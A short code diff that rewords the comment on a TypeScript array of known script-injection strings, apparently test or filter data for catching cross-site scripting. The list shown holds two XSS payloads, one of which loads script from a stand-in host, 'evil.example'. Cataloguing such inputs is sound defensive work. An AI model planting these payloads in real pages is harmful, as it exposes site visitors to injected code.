@@ -1,4 +1,4 @@
-/** Texts that try to run: the kinds by which scripts have got into pages. */
+/** Known kinds of script injection. */
 export const hostileTexts: readonly string[] = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
